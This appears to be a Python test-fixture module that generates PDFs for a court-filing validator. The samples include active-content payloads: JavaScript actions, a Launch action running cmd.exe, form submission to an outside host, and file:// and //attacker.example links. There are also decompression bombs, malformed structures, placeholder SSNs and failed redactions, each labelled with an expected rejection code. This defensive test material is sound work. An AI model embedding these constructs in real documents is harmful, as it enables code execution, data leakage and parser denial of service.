        b.set(
            field,
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /Rect [300 600 500 620]"
            b" /P %d 0 R /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2\\);) >> >> >>"
            % page,
        )
        return b"/Annots [%d 0 R] " % field

    pages = [_lines_for_page(1, 1)]
    return text_pdf(pages, builder=b, catalog_extra=catalog_extra, page_extra=page_extra)


@functools.cache
def js_chained_after_goto() -> bytes:
    """A harmless /GoTo open action whose /Next runs JavaScript."""
    return _with_catalog(
        b"/OpenAction << /S /GoTo /D (top) /Next [<< /S /Named /N /FirstPage >> " + JS + b"] >> "
    )


@functools.cache
def launch_action() -> bytes:
    return _with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 712] /A << /S /Launch"
        b" /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc.exe) >> >> >>"
    )


@functools.cache
def launch_in_bookmark() -> bytes:
    b = PdfBuilder()
    outlines, item = b.reserve(), b.reserve()
    b.set(
        item,
        b"<< /Title (Exhibit A) /Parent %d 0 R /A << /S /Launch /F (exhibit.exe) >> >>" % outlines,
    )
    b.set(outlines, b"<< /Type /Outlines /First %d 0 R /Last %d 0 R /Count 1 >>" % (item, item))
    return _with_catalog(b"/Outlines %d 0 R " % outlines, b)


@functools.cache
def xfa_form_with_script() -> bytes:
    """An XFA form whose template runs a script on click."""
    b = PdfBuilder()
    xfa = b.add_stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form1">'
        b'<field name="ok"><event activity="click"><script contentType="application/x-javascript">'
        b"app.launchURL('https://example.invalid/');</script></event></field></subform>"
        b"</template></xdp:xdp>",
        flate=True,
    )
    return _with_catalog(b"/AcroForm << /Fields [] /XFA %d 0 R >> " % xfa, b)


@functools.cache
def empty_name_trees() -> bytes:
    """Empty /JavaScript and /EmbeddedFiles name trees, as some tools leave them: harmless."""
    return _with_catalog(
        b"/Names << /JavaScript << /Names [] >> /EmbeddedFiles << /Names [] >> >> "
    )


# --------------------------------------------------------------------------- embedded files


@functools.cache
def embedded_file_attachment() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_1_page())))
    writer.add_attachment("exhibit-a.docx", b"PK\x03\x04 not really a document")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@functools.cache
def file_attachment_annotation() -> bytes:
    b = PdfBuilder()
    embedded = b.add_stream(b"hello", b"/Type /EmbeddedFile /Subtype /text#2Fplain")
    return _with_annotation(
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [500 700 520 720] /Name /PushPin"
        b" /FS << /Type /Filespec /F (notes.txt) /EF << /F %d 0 R >> >> >>" % embedded,
        b,
    )


# --------------------------------------------------------------------------- malformed


@functools.cache
def truncated() -> bytes:
    data = text_10_pages()
    return data[: len(data) // 2]


@functools.cache
def garbage_after_header() -> bytes:
    rng = random.Random(5)
    # Ends like a PDF, so the parser (not the %%EOF check) has to refuse it.
    return b"%PDF-1.7\n" + bytes(rng.randrange(256) for _ in range(4096)) + b"\n%%EOF\n"


@functools.cache
def header_only() -> bytes:
    return b"%PDF-1.4\n%%EOF\n"


@functools.cache
def no_pages() -> bytes:
    b = PdfBuilder()
    catalog, tree = b.reserve(), b.reserve()
    b.set(tree, b"<< /Type /Pages /Kids [] /Count 0 >>")
    b.set(catalog, b"<< /Type /Catalog /Pages %d 0 R >>" % tree)
    return b.build(root=catalog)


@functools.cache
def cyclic_page_tree() -> bytes:
    """/Pages whose /Kids holds a node whose /Kids points back at the parent."""
    b = PdfBuilder()
    catalog, tree, inner = b.reserve(), b.reserve(), b.reserve()
    b.set(tree, b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % inner)
    b.set(inner, b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (tree, tree))
    b.set(catalog, b"<< /Type /Catalog /Pages %d 0 R >>" % tree)
    return b.build(root=catalog)


def _big_page_tree(count_claim: int | None, pages: int = 200_000, fanout: int = 500) -> bytes:
    b = PdfBuilder()
    catalog, tree, font = b.reserve(), b.reserve(), b.add(HELVETICA)
    # Small leaves (resources inherited from the root, no content) keep the file near 15 MB.
    shared = b">>"
    nodes = []
    for _ in range(pages // fanout):
        node = b.reserve()
        kids = [b.add(b"<< /Type /Page /Parent %d 0 R " % node + shared) for _ in range(fanout)]
        claim = fanout if count_claim is None else 1
        refs = b" ".join(b"%d 0 R" % k for k in kids)
        kids_entry = b"/Kids [" + refs + b"] /Count %d" % claim
        b.set(node, b"<< /Type /Pages /Parent %d 0 R " % tree + kids_entry + b" >>")
        nodes.append(node)
    refs = b" ".join(b"%d 0 R" % n for n in nodes)
    total = pages if count_claim is None else count_claim
    b.set(
        tree,
        b"<< /Type /Pages /Kids ["
        + refs
        + b"] /Count %d " % total
        + MEDIABOX
        + b" /Resources << /Font << /F1 %d 0 R >> >> >>" % font,
    )
    b.set(catalog, b"<< /Type /Catalog /Pages %d 0 R >>" % tree)
    return b.build(root=catalog)


@functools.cache
def huge_page_tree() -> bytes:
    """200,000 real page objects, honestly counted."""
    return _big_page_tree(None)


@functools.cache
def page_count_lie() -> bytes:
    """200,000 page objects under a tree that claims /Count 1."""
    return _big_page_tree(1)


def _deep(opening: bytes, closing: bytes, levels: int) -> bytes:
    b = PdfBuilder()
    deep = b.add(opening * levels + b"1" + closing * levels)
    return text_pdf(
        [_lines_for_page(1, 1)],
        builder=b,
        resources=b"/Properties << /MC0 %d 0 R >> " % deep,
    )


@functools.cache
def deep_nested_arrays() -> bytes:
    """100,000 nested arrays, reachable from the page's resources."""
    return _deep(b"[", b"]", 100_000)


@functools.cache
def deep_nested_dicts() -> bytes:
    return _deep(b"<< /A ", b" >>", 100_000)


def _zeros_deflate(gib: float) -> bytes:
    """A zlib stream of ``gib`` GiB of zeros, built in a fraction of a second.

    Each full-flushed 1 MiB block of zeros compresses to the same bytes, so one block is
    repeated; the Adler-32 of the whole is computed from the same 1 MiB chunk.
    """
    chunk = bytes(1 << 20)
    blocks = int(gib * 1024)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    tail = deflate.flush(zlib.Z_FINISH)
    adler = 1
    for _ in range(blocks):
        adler = zlib.adler32(chunk, adler)
    return b"\x78\xda" + block * blocks + tail + struct.pack(">I", adler)


@functools.cache
def bomb_flate_content() -> bytes:
    """A 1 MiB page content stream that inflates to 1.1 GiB."""
    b = PdfBuilder()
    catalog, tree, page = b.reserve(), b.reserve(), b.reserve()
    bomb = _zeros_deflate(1.1)
    content = b.set(b.reserve(), _raw_stream(bomb, b"/Filter /FlateDecode"))
    font = b.add(HELVETICA)
    b.set(
        page,
        b"<< /Type /Page /Parent %d 0 R " % tree
        + MEDIABOX
        + b" /Resources << /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>" % (font, content),
    )
    _page_tree(b, tree, [page])
    b.set(catalog, b"<< /Type /Catalog /Pages %d 0 R >>" % tree)
    return b.build(root=catalog)


@functools.cache
def bomb_content_array() -> bytes:
    """One 48 MiB-inflating stream listed 200 times in /Contents (under any per-stream limit)."""
    b = PdfBuilder()
    catalog, tree, page = b.reserve(), b.reserve(), b.reserve()
    bomb = _zeros_deflate(48 / 1024)
    stream = b.set(b.reserve(), _raw_stream(bomb, b"/Filter /FlateDecode"))
    font = b.add(HELVETICA)
    refs = b" ".join(b"%d 0 R" % stream for _ in range(200))
    b.set(
        page,
        b"<< /Type /Page /Parent %d 0 R " % tree
        + MEDIABOX
        + b" /Resources << /Font << /F1 %d 0 R >> >> /Contents [" % font
        + refs
        + b"] >>",
    )
    _page_tree(b, tree, [page])
    b.set(catalog, b"<< /Type /Catalog /Pages %d 0 R >>" % tree)
    return b.build(root=catalog)


# --------------------------------------------------------------------------- not PDFs


@functools.cache
def png_image() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    raw = b"".join(b"\x00" + bytes(range(16)) for _ in range(16))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


@functools.cache
def zip_archive() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("brief.pdf", date_time=(2025, 1, 2, 3, 4, 6))
        archive.writestr(info, text_1_page(), compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


@functools.cache
def html_page() -> bytes:
    return (
        b"<!DOCTYPE html>\n<html><head><title>Brief</title></head>"
        b"<body><p>%PDF-1.7 is mentioned here, but this is a web page.</p></body></html>\n"
    ).replace(b"%PDF-1.7", b"PDF 1.7")


@functools.cache
def pdf_header_too_late() -> bytes:
    """A PDF behind 2 KiB of junk: the header must be within the first 1024 bytes."""
    return b"x" * 2048 + text_1_page()


# --------------------------------------------------------------------------- privacy

SSN_LINE = "The petitioner's Social Security number is 123-45-6789."


@functools.cache
def ssn_unredacted() -> bytes:
    return text_pdf([_lines_for_page(1, 2), _lines_for_page(2, 2, [SSN_LINE])])


@functools.cache
def ssn_invalid_numbers() -> bytes:
    """Numbers shaped like SSNs that the SSA never issues (area 000/666/9xx, group 00...)."""
    lines = [
        "Sample numbers: 000-12-3456, 666-12-3456, 900-12-3456, 123-00-4567, 123-45-0000.",
        "Account 1234-56-7890 and reference 12-345-6789 are not SSNs either.",
    ]
    return text_pdf([_lines_for_page(1, 1, lines)])


@functools.cache
def ssn_redacted() -> bytes:
    lines = ["The petitioner's SSN is XXX-XX-6789 (redacted under Fed. R. App. P. 25(a)(5))."]
    lines.append("Also written as ***-**-6789 or xxx-xx-6789.")
    return text_pdf([_lines_for_page(1, 1, lines)])


# --------------------------------------------------------------------------- outgoing actions


def _link_with_action(action: bytes) -> bytes:
    return _with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 712] /A " + action + b" >>"
    )


@functools.cache
def submit_form_outside() -> bytes:
    """A form whose button posts the fields to another site."""
    return _link_with_action(
        b"<< /S /SubmitForm /F << /FS /URL /F (https://example.invalid/collect) >> >>"
    )


@functools.cache
def goto_remote_network_path() -> bytes:
    return _link_with_action(
        b"<< /S /GoToR /F (\\\\\\\\fileserver\\\\share\\\\exhibit.pdf) /D [0 /Fit] >>"
    )


@functools.cache
def goto_embedded() -> bytes:
    return _link_with_action(b"<< /S /GoToE /T << /R /C /N (exhibit.pdf) >> /D [0 /Fit] >>")


@functools.cache
def import_data() -> bytes:
    return _link_with_action(b"<< /S /ImportData /F (https://example.invalid/data.fdf) >>")


@functools.cache
def uri_javascript() -> bytes:
    return _link_with_action(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>")


@functools.cache
def uri_file() -> bytes:
    return _link_with_action(b"<< /S /URI /URI (file:///etc/passwd) >>")


@functools.cache
def uri_network_path() -> bytes:
    return _link_with_action(b"<< /S /URI /URI (//attacker.example/share/x.pdf) >>")


@functools.cache
def uri_web_link() -> bytes:
    """An ordinary link to a web page (a cited opinion): harmless."""
    return _link_with_action(b"<< /S /URI /URI (https://www.uscourts.gov/rules-policies) >>")


# --------------------------------------------------------------------------- Rule 5.2(a)


def _page_with(lines: Sequence[str]) -> bytes:
    return text_pdf([_lines_for_page(1, 2), _lines_for_page(2, 2, lines)])


@functools.cache
def ssn_with_spaces() -> bytes:
    return _page_with(["Petitioner's social security number: 123 45 6789."])


@functools.cache
def ssn_with_dots() -> bytes:
    return _page_with(["Identifier 123.45.6789 as shown on the card."])


@functools.cache
def ssn_bare_labelled() -> bytes:
    return _page_with(["SSN 123456789 (from the application)."])


@functools.cache
def ssn_in_separate_runs() -> bytes:
    """The digits drawn as separate text runs, each positioned on its own (as some tools do)."""
    runs = [(b"SSN:", 72), (b"123", 100), (b"-", 118), (b"45", 122), (b"-", 134), (b"6789", 138)]
    ops = b"BT /F1 11 Tf\n" + b"".join(
        b"1 0 0 1 %d 600 Tm (%s) Tj\n" % (x, text) for text, x in runs
    )
    return text_pdf([_lines_for_page(1, 2), ops + b"ET\n"])


@functools.cache
def ssn_in_annotation() -> bytes:
    return _with_annotation(
        b"<< /Type /Annot /Subtype /Text /Rect [72 700 90 718] /Contents (SSN 123-45-6789) >>"
    )


@functools.cache
def ssn_in_form_field() -> bytes:
    b = PdfBuilder()
    field = b.reserve()

    def page_extra(index: int, page: int) -> bytes:
        b.set(
            field,
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (ssn) /V (123-45-6789)"
            b" /Rect [300 600 500 620] /P %d 0 R >>" % page,
        )
        return b"/Annots [%d 0 R] " % field

    return text_pdf(
        [_lines_for_page(1, 1)],
        builder=b,
        catalog_extra=b"/AcroForm << /Fields [%d 0 R] >> " % field,
        page_extra=page_extra,
    )


@functools.cache
def ssn_in_document_info() -> bytes:
    b, catalog, _ = text_doc([_lines_for_page(1, 1)])
    info = b.add(b"<< /Title (Declaration) /Subject (Applicant SSN 123-45-6789) >>")
    return b.build(root=catalog, info=info)


@functools.cache
def birth_date_labelled() -> bytes:
    return _page_with(["Date of birth: 03/14/1986."])


@functools.cache
def account_number_labelled() -> bytes:
    return _page_with(["Wire the funds to bank account number 004512398761."])


@functools.cache
def privacy_look_alikes() -> bytes:
    """Numbers that only look like identifiers: all pass."""
    return _page_with(
        [
            "Petitioner A123-456-789 (also written A 123 456 789) appeals in No. 26-1234.",
            "Counsel may be reached at (415) 555-0100 or 415-555-0100.",
            "The hearing was held on 03/14/2019; the petitioner was born in 1986.",
            "SSN XXX-XX-6789; account ending in 4321; Dkt. 21-70123.",
        ]
    )


# --------------------------------------------------------------------------- redactions


def _black_box(x: int, y: int, w: int, h: int) -> bytes:
    return b"q 0 0 0 rg %d %d %d %d re f Q\n" % (x, y, w, h)


@functools.cache
def box_over_live_text() -> bytes:
    """The classic failed redaction: a black box drawn over a name still in the file."""
    text = text_content(["The informant, John Q. Witness, testified on page 7."])
    return text_pdf([_lines_for_page(1, 2), text + _black_box(150, 735, 120, 16)])


@functools.cache
def box_with_text_removed() -> bytes:
    """A true redaction: the words under the box are gone, only the box remains."""
    text = (
        b"BT /F1 11 Tf 72 740 Td (The informant,) Tj ET\n"
        b"BT /F1 11 Tf 280 740 Td (testified on page 7.) Tj ET\n"
    )
    return text_pdf([_lines_for_page(1, 2), text + _black_box(150, 735, 120, 16)])


@functools.cache
def shading_under_text() -> bytes:
    """A grey table cell painted before its text: the text is on top, readable."""
    shade = b"q 0.85 g 60 730 300 20 re f Q\n"
    return text_pdf([_lines_for_page(1, 1), shade + text_content(["Shaded heading text"])])


@functools.cache
def redact_annotation_unapplied() -> bytes:
    """A redaction marked but never applied: the text is still there under the mark."""
    return _with_annotation(
        b"<< /Type /Annot /Subtype /Redact /Rect [70 735 400 752] /IC [0 0 0] >>"
    )


@functools.cache
def black_highlight_over_text() -> bytes:
    """Text "redacted" with a black highlighter: viewers show black, the words are still there."""
    return _with_annotation(
        b"<< /Type /Annot /Subtype /Highlight /Rect [70 735 400 752] /C [0 0 0]"
        b" /QuadPoints [70 752 400 752 70 735 400 735] >>"
    )


@functools.cache
def yellow_highlight_over_text() -> bytes:
    """An ordinary highlight: the words stay readable."""
    return _with_annotation(
        b"<< /Type /Annot /Subtype /Highlight /Rect [70 735 400 752] /C [1 1 0]"
        b" /QuadPoints [70 752 400 752 70 735 400 735] >>"
    )


# --------------------------------------------------------------------------- length


@functools.cache
def long_brief(pages: int) -> bytes:
    """A text brief of ``pages`` pages (about 40 lines each), built in well under a second."""
    body = [
        f"Line {n}: the record shows the agency did not consider the evidence." for n in range(36)
    ]
    content = [text_content(_lines_for_page(i, pages, body)) for i in range(1, pages + 1)]
    return text_pdf(content)


# --------------------------------------------------------------------------- the corpus

PASS = None
MALFORMED = "pdf_malformed"

CORPUS: dict[str, CorpusItem] = {
    # Good documents.
    "text_1_page": CorpusItem(text_1_page, PASS, 1),
    "text_10_pages": CorpusItem(text_10_pages, PASS, 10),
    "pdftex_like": CorpusItem(pdftex_like, PASS, 3, "xref stream, Type1 /Differences"),
    "libreoffice_like": CorpusItem(libreoffice_like, PASS, 2, "TrueType subset, ToUnicode"),
    "word_like": CorpusItem(word_like, PASS, 2, "tagged, Type0 Identity-H"),
    "google_docs_like": CorpusItem(google_docs_like, PASS, 2, "Skia/PDF"),
    "pdfa_like": CorpusItem(pdfa_like, PASS, 1, "XMP pdfaid, OutputIntents"),
    "pypdf_rewritten": CorpusItem(pypdf_rewritten, PASS, 10),
    "incremental_update": CorpusItem(incremental_update, PASS, 1),
    "acroform_fillable": CorpusItem(acroform_fillable, PASS, 1, "form, reset button, no JS"),
    "blank_separator_page": CorpusItem(blank_separator_page, PASS, 3),
    "ssn_invalid_numbers": CorpusItem(ssn_invalid_numbers, PASS, 1),
    "ssn_redacted": CorpusItem(ssn_redacted, PASS, 1),
    "empty_name_trees": CorpusItem(empty_name_trees, PASS, 1),
    # Not text-searchable.
    "image_only": CorpusItem(image_only, "pdf_not_searchable", 1),
    "inline_image_only": CorpusItem(inline_image_only, "pdf_not_searchable", 1),
    "scan_in_form_xobject": CorpusItem(scan_in_form_xobject, "pdf_not_searchable", 1),
    "mixed_scan_on_page_2": CorpusItem(mixed_scan_on_page_2, "pdf_not_searchable", 3),
    "text_as_outlines": CorpusItem(text_as_outlines, "pdf_not_searchable", 1),
    # Encrypted.
    "encrypted_empty_user_password": CorpusItem(encrypted_empty_user_password, "pdf_encrypted"),
    "encrypted_with_password": CorpusItem(encrypted_with_password, "pdf_encrypted"),
    "encrypted_aes256_declared": CorpusItem(encrypted_aes256_declared, "pdf_encrypted"),
    # Active content.
    "js_open_action": CorpusItem(js_open_action, "pdf_active_content", 1),
    "js_names_tree": CorpusItem(js_names_tree, "pdf_active_content", 1),
    "js_link_annotation": CorpusItem(js_link_annotation, "pdf_active_content", 2),
    "js_form_field_keystroke": CorpusItem(js_form_field_keystroke, "pdf_active_content", 1),
    "js_chained_after_goto": CorpusItem(js_chained_after_goto, "pdf_active_content", 1),
    "launch_action": CorpusItem(launch_action, "pdf_active_content", 2),
    "launch_in_bookmark": CorpusItem(launch_in_bookmark, "pdf_active_content", 1),
    "xfa_form_with_script": CorpusItem(xfa_form_with_script, "pdf_active_content", 1),
    # Embedded files.
    "embedded_file_attachment": CorpusItem(embedded_file_attachment, "pdf_embedded_files", 1),
    "file_attachment_annotation": CorpusItem(file_attachment_annotation, "pdf_embedded_files", 2),
    # Malformed or hostile structure.
    "truncated": CorpusItem(truncated, MALFORMED),
    "garbage_after_header": CorpusItem(garbage_after_header, MALFORMED),
    "header_only": CorpusItem(header_only, MALFORMED),
    "no_pages": CorpusItem(no_pages, MALFORMED),
    "cyclic_page_tree": CorpusItem(cyclic_page_tree, MALFORMED),
    "huge_page_tree": CorpusItem(huge_page_tree, MALFORMED, note="200k pages"),
    "page_count_lie": CorpusItem(page_count_lie, MALFORMED, note="/Count 1 over 200k pages"),
    "deep_nested_arrays": CorpusItem(deep_nested_arrays, MALFORMED, note="100k levels"),
    "deep_nested_dicts": CorpusItem(deep_nested_dicts, MALFORMED, note="100k levels"),
    "bomb_flate_content": CorpusItem(bomb_flate_content, MALFORMED, note="1 MiB -> 1.1 GiB"),
    "bomb_content_array": CorpusItem(bomb_content_array, MALFORMED, note="200 x 48 MiB"),
    # Not PDFs at all.
    "png_image": CorpusItem(png_image, "not_pdf"),
    "zip_archive": CorpusItem(zip_archive, "not_pdf"),
    "html_page": CorpusItem(html_page, "not_pdf"),
    "empty_file": CorpusItem(lambda: b"", "not_pdf"),
    "pdf_header_too_late": CorpusItem(pdf_header_too_late, "not_pdf"),
    # Outgoing and remote actions.
    "submit_form_outside": CorpusItem(submit_form_outside, "pdf_active_content", 2),
    "goto_remote_network_path": CorpusItem(goto_remote_network_path, "pdf_active_content", 2),
    "goto_embedded": CorpusItem(goto_embedded, "pdf_active_content", 2),
    "import_data": CorpusItem(import_data, "pdf_active_content", 2),
    "uri_javascript": CorpusItem(uri_javascript, "pdf_active_content", 2),
    "uri_file": CorpusItem(uri_file, "pdf_active_content", 2),
    "uri_network_path": CorpusItem(uri_network_path, "pdf_active_content", 2),
    "uri_web_link": CorpusItem(uri_web_link, PASS, 2),
    # Privacy.
    "ssn_unredacted": CorpusItem(ssn_unredacted, "pii_unredacted", 2),
    "ssn_with_spaces": CorpusItem(ssn_with_spaces, "pii_unredacted", 2),
    "ssn_with_dots": CorpusItem(ssn_with_dots, "pii_unredacted", 2),
    "ssn_bare_labelled": CorpusItem(ssn_bare_labelled, "pii_unredacted", 2),
    "ssn_in_separate_runs": CorpusItem(ssn_in_separate_runs, "pii_unredacted", 2),
    "ssn_in_annotation": CorpusItem(ssn_in_annotation, "pii_unredacted", 2),
    "ssn_in_form_field": CorpusItem(ssn_in_form_field, "pii_unredacted", 1),
    "ssn_in_document_info": CorpusItem(ssn_in_document_info, "pii_unredacted", 1),
    "birth_date_labelled": CorpusItem(birth_date_labelled, "pii_unredacted", 2),
    "account_number_labelled": CorpusItem(account_number_labelled, "pii_unredacted", 2),
    "privacy_look_alikes": CorpusItem(privacy_look_alikes, PASS, 2),
    # Redactions.
    "box_over_live_text": CorpusItem(box_over_live_text, "pdf_bad_redaction", 2),
    "box_with_text_removed": CorpusItem(box_with_text_removed, PASS, 2),
    "shading_under_text": CorpusItem(shading_under_text, PASS, 2),
    "redact_annotation_unapplied": CorpusItem(redact_annotation_unapplied, "pdf_bad_redaction", 2),
    "black_highlight_over_text": CorpusItem(black_highlight_over_text, "pdf_bad_redaction", 2),
    "yellow_highlight_over_text": CorpusItem(yellow_highlight_over_text, PASS, 2),
}

# Real producers' files (tests/data/pdf-corpus, see its SOURCES.md) and their answers.
REAL_WORLD_DIR = Path(__file__).resolve().parents[1] / "data" / "pdf-corpus"

# file -> (expected code or None for a pass, page count); why, where it is not obvious.
REAL_WORLD: dict[str, tuple[str | None, int]] = {
    "crazyones.pdf": (None, 1),  # xdvipdfmx
    "pdflatex-outline.pdf": (None, 4),  # pdfTeX with bookmarks (GoTo actions only)
    "form_acrobatReader.pdf": (None, 1),  # pdfTeX form filled in Acrobat Reader
    "libreoffice-form.pdf": (None, 1),
    # LibreOffice paints white boxes over some form labels: light shapes are not redactions.
    "FormTestFromOo.pdf": (None, 1),
    "two-different-pages.pdf": (None, 2),  # Google Docs (Skia)
    "inkscape-abc.pdf": (None, 1),  # cairo
    "AutoCad_Simple.pdf": (None, 1),  # AutoCAD plot driver
    "reportlab-inline-image.pdf": (None, 1),  # text beside an inline image
    "Seige_of_Vicksburg_Sample_OCR.pdf": (None, 6),  # a scan with an OCR text layer
    "git.pdf": ("pdf_not_searchable", 1),  # Word: a picture of text, no text layer
    "imagemagick-lzw.pdf": ("pdf_not_searchable", 1),  # an image converted to PDF
    "pdflatex-forms.pdf": ("pdf_active_content", 1),  # a submit button posting the form out
    "SF424_page2.pdf": ("pdf_active_content", 1),  # a federal form with scripts
    "issue-297.pdf": ("pdf_active_content", 1),  # JavaScript run when it opens
    "attachment.pdf": ("pdf_embedded_files", 1),
    "encrypted-file.pdf": ("pdf_encrypted", 0),
    "libreoffice-writer-password.pdf": ("pdf_encrypted", 0),
    "selenium-pypdf-issue-177.pdf": ("pdf_malformed", 0),  # cut off: no %%EOF
}
